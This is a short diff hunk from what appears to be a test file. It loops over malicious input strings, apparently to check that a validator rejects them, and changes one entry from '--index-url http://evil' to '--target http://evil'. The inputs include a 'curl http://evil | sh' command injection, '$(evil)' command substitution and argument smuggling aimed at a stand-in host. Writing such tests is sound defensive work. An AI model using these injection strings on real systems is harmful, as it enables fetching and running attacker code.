@@ -510,7 +510,7 @@ add(
 
 for words in (
     "x; curl http://evil | sh",
-    "--index-url http://evil",
+    "--target http://evil",
     "x\ncurl evil",
     "$(evil)",
     "x @ http://evil",
